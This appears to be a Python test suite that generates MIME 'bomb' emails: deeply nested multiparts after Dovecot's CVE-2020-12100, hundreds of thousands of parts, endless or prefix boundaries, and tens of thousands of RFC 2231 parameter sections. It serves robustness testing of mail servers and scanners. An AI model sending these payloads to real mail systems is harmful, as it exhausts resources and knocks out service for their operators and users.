"""MIME bombs: nesting (CVE-2020-12100 of Dovecot, deeply nested parts), part
counts, and parameters in continuations (RFC 2231), as scanners and servers met
them.

Multiparts in multiparts, messages in messages, boundaries that are prefixes of
each other or never come, hundreds of thousands of parts, parameters in
thousands of sections, out of order and with holes."""

import attack

TOP = b"From: a@b.test\r\nMIME-Version: 1.0\r\n"


def multipart(boundary, inner):
    return (b"Content-Type: multipart/mixed; boundary=" + boundary
            + b"\r\n\r\n" + inner)


def nested(depth, close):
    head = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n"
                    b"--b%d\r\n" % (i, i) for i in range(depth))
    tail = b"".join(b"\r\n--b%d--\r\n" % i for i in reversed(range(depth)))
    return TOP + head + b"\r\nx\r\n" + (tail if close else b"")


def prefixes(depth):
    """Boundaries a, aa, aaa ...: each line is compared with all."""
    head = b"".join(b"Content-Type: multipart/mixed; boundary=" + b"a" * i
                    + b"\r\n\r\n--" + b"a" * i + b"\r\n"
                    for i in range(1, depth + 1))
    return TOP + head + b"\r\n" + b"--aaaaaaaaaaaaaaaaaaaaaaab\r\n" * 30000


class MimeBombs(attack.BombCase):
    def test_depth(self):
        self.explode({
            "30 levels": nested(30, True), "10,000 levels": nested(10000, True),
            "20,000 levels, unclosed": nested(20000, False),
            "boundaries within each other": prefixes(60),
            "messages in messages": TOP + b"Content-Type: message/rfc822\r\n"
                                    b"\r\n" * 20000,
            "both": TOP + b"".join(
                b"Content-Type: multipart/digest; boundary=c%d\r\n\r\n--c%d"
                b"\r\nContent-Type: message/rfc822\r\n\r\n" % (i, i)
                for i in range(5000)),
        })

    def test_parts(self):
        self.explode({
            "300,000 empty parts": TOP + multipart(b"b", b"--b\r\n\r\n"
                                                   * 300000 + b"--b--\r\n"),
            "100,000 parts with fields": TOP + multipart(
                b"b", b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
                * 100000),
            "boundaries that never come": TOP + multipart(
                b"b" * 70, (b"--" + b"b" * 69 + b"\r\n") * 20000),
            "only dashes": TOP + multipart(b"-" * 70, (b"-" * 900 + b"\r\n")
                                           * 2000),
            "an empty boundary": TOP + multipart(b'""', b"--\r\n" * 200000),
            "base64 of nothing": TOP + b"Content-Transfer-Encoding: base64"
                                 b"\r\n\r\n" + b"=\r\n" * 300000,
            "quoted-printable": TOP + b"Content-Transfer-Encoding: quoted-"
                                b"printable\r\n\r\n" + (b" " * 900 + b"\r\n")
                                * 1500,
        })

    def test_continuations(self):
        def field(sections):
            return (TOP + b"Content-Type: text/plain" + b"".join(
                b";\r\n " + s for s in sections) + b"\r\n\r\nx\r\n")
        self.explode({
            "50,000 sections": field(b"n*%d=x" % i for i in range(50000)),
            "backwards": field(b"n*%d=x" % i for i in range(50000, 0, -1)),
            "with holes": field(b"n*%d*=%%41" % (i * 7) for i in range(40000)),
            "one number": field(b"n*1=x" for i in range(50000)),
            "huge numbers": field(b"n*%d=x" % (10 ** 18 + i)
                                  for i in range(20000)),
            "50,000 names": field(b"n%d=x" % i for i in range(50000)),
            "percent signs": field([b"n*=utf-8''" + b"%41" * 300] * 1000),
            "semicolons": field([b";" * 900] * 1000),
            "open quotes": field([b'n="' + b"\\" * 900] * 1000),
            "comments": field([b"(" * 900] * 1000),
        })


if __name__ == "__main__":
    attack.main()
